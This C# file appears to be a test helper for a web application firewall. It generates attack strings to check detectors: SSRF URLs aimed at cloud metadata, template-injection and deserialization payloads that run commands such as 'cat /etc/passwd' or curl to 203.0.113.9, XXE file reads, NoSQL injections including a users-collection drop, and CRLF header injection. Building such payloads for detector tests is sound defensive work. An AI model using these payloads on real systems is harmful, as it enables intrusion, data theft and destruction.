using System.Text;

namespace Sakimori.Waf.Tests.Charsets;

/// <summary>
/// Attacks of the families no corpus here has, put together from the grammars at the heads of the detectors: a field of a form each.
/// </summary>
internal static class GeneratedAttacks
{
    private const string Field = "comment";

    public static (string Name, string Value)[] Of(string family) => family switch
    {
        "ssrf" => Values(from scheme in (string[])["http://", "https://", "ftp://", "http://shop.example.jp@", "gopher://"]
                         from host in (string[])["127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "10.0.0.5", "172.16.3.4", "192.168.1.1", "[::1]", "[::ffff:127.0.0.1]", "169.254.169.254", "metadata.google.internal", "127.0.0.1.nip.io", "localhost", "localtest.me"]
                         from path in (string[])["/", ":8080/admin", "/latest/meta-data/iam/", "/server-status"]
                         select scheme + host + path),
        "ssti" => Values(from frame in (string[])["{{§}}", "${§}", "#{§}", "%{§}", "*{§}", "<%= § %>", "${{§}}"]
                         from code in (string[])["7*7", "1337*3", "''.getClass().forName('java.lang.Runtime')", "T(java.lang.Runtime).getRuntime().exec('id')", "''.__class__.__mro__[1].__subclasses__()", "config.__class__.__init__.__globals__", "new java.util.Scanner(x)", "request.application.__globals__", "''.constructor.constructor('alert(1)')()", "_self.env.getFilter('id')"]
                         from around in (string[])["§", "a § b", "<p>§</p>", "§!"]
                         select around.Replace("§", frame.Replace("§", code, StringComparison.Ordinal), StringComparison.Ordinal)),
        "xxe" => Values(from address in (string[])["file:///etc/passwd", "file:///c:/windows/win.ini", "http://203.0.113.9/x.dtd", "php://filter/read=convert.base64-encode/resource=a.php", "jar:http://203.0.113.9/a!/b", "expect://id", "\\\\203.0.113.9\\share\\x", "netdoc:///etc/passwd", "ftp://203.0.113.9/x", "gopher://203.0.113.9/_x"]
                        from name in (string[])["x", "xxe", "品目", "a-b", "data", "_1"]
                        from form in (string[])["<!DOCTYPE r [<!ENTITY § SYSTEM \"¤\">]><r>&§;</r>", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % § SYSTEM '¤'> %§;]><r/>", "<!DOCTYPE § SYSTEM \"¤\"><§/>", "<!DOCTYPE § PUBLIC \"a\" \"¤\"><§/>", "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"¤\"/></r>", "<?xml version='1.0' encoding='UTF-8'?>\n<!DOCTYPE foo [\n<!ELEMENT foo ANY>\n<!ENTITY § PUBLIC 'b' '¤'>\n]>\n<foo>&§;</foo>"]
                        select form.Replace("§", name, StringComparison.Ordinal).Replace("¤", address, StringComparison.Ordinal)),
        "deserialization" => Values([.. PhpObjects(), .. Streams(), .. Texts()]),
        "nosqli" => [.. Operators(), .. Values(Scripts())],
        _ => Values(from line in (string[])["\r\n", "\n", "\r", "%0d%0a", "%0a", "&#13;&#10;"]
                    from header in (string[])["Set-Cookie: sid=1", "Location: http://203.0.113.9/", "Content-Length: 0", "X-Forwarded-For: 127.0.0.1", "Bcc: a@example.com", "X-Role: admin", "Refresh: 0;url=http://203.0.113.9/", "Access-Control-Allow-Origin: *", "Link: <http://203.0.113.9/>; rel=preload", "Cc: b@example.com"]
                    from value in (string[])["x", "/home", "ja", "a@example.jp", "注文"]
                    select value + line + header),
    };

    private static IEnumerable<string> PhpObjects() =>
        from name in (string[])["stdClass", "SoapClient", "SplObjectStorage", "GuzzleHttp\\Psr7\\FnStream", "Monolog\\Handler\\SyslogUdpHandler", "Order", "ArrayObject", "PDO", "App\\User", "Imagick", "Phar", "Swift_Message"]
        let length = Encoding.UTF8.GetByteCount(name)
        from body in (string[])["0:{}", "1:{s:1:\"a\";i:1;}", "1:{s:4:\"path\";s:11:\"/etc/passwd\";}", "2:{s:1:\"a\";N;s:1:\"b\";b:1;}"]
        from frame in (string[])["#", "a:1:{i:0;#}", "a:2:{s:1:\"k\";i:5;s:1:\"v\";#}"]
        select frame.Replace("#", $"O:{length}:\"{name}\":{body}", StringComparison.Ordinal);

    private static IEnumerable<string> Streams() =>
        from name in (string[])["org.apache.commons.collections.functors.InvokerTransformer", "java.util.PriorityQueue", "com.example.Order", "java.util.HashMap", "javax.management.BadAttributeValueExpException"]
        from head in (byte[][])[[0xAC, 0xED, 0, 5, 0x73, 0x72], [0, 1, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF, 1, 0, 0, 0, 0, 0, 0, 0]]
        from tail in Enumerable.Range(0, 8)
        let bytes = (byte[])[.. head, 0, (byte)name.Length, .. Encoding.ASCII.GetBytes(name), (byte)tail, .. Enumerable.Repeat((byte)tail, tail * 5)]
        select Convert.ToBase64String(bytes);

    private static IEnumerable<string> Texts() =>
        from command in (string[])["id", "cat /etc/passwd", "curl http://203.0.113.9/", "calc.exe", "whoami", "ls -l"]
        from form in (string[])["cos\nsystem\n(S'#'\ntR.", "(cposix\nsystem\nS'#'\no.", "!!python/object/apply:os.system ['#']", "--- !ruby/object:Gem::Installer\ni: #", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"#\"}", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://203.0.113.9/#\"}", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('#')}()\"}"]
        select form.Replace("#", command, StringComparison.Ordinal);

    private static IEnumerable<(string Name, string Value)> Operators() =>
        from field in (string[])["user", "pass", "login", "a[b]", "filter", "q", "会員"]
        from one in (string[])["$ne", "$gt", "$gte", "$lt", "$regex", "$where", "$in", "$nin", "$exists", "$or"]
        from value in (string[])["", "1", ".*"]
        select ($"{field}[{one}]", value);

    private static IEnumerable<string> Scripts() =>
        from quote in (string[])["'", "\""]
        from script in (string[])["Q; return true; var a=Q", "Q || 1==1", "Q && 1!=2 //", "Q||QaQ==Qa", "Q && this.password.match(/.*/)//", "Q;sleep(5000);var a=Q", "Q || this.admin==1 //", "Q});db.users.drop();//"]
        from tail in (string[])["", " ", "\n"]
        select script.Replace("Q", quote, StringComparison.Ordinal) + tail;

    private static (string, string)[] Values(IEnumerable<string> values) => [.. values.Distinct().Select(value => (Field, value))];
}
